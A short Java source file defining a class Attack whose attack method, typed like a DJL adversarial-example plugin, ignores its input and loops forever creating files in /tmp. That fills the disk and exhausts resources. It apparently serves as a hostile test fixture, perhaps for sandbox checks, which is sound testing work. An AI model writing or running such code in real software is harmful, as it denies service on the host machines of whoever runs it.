package t;

import ai.djl.ndarray.NDArray;
import java.nio.file.Files;
import java.nio.file.Path;

public final class Attack {
  public static NDArray attack(NDArray x) throws Exception {
    for (int i = 0; ; i++) {
      Files.createFile(Path.of("/tmp/f" + i));
    }
  }
}
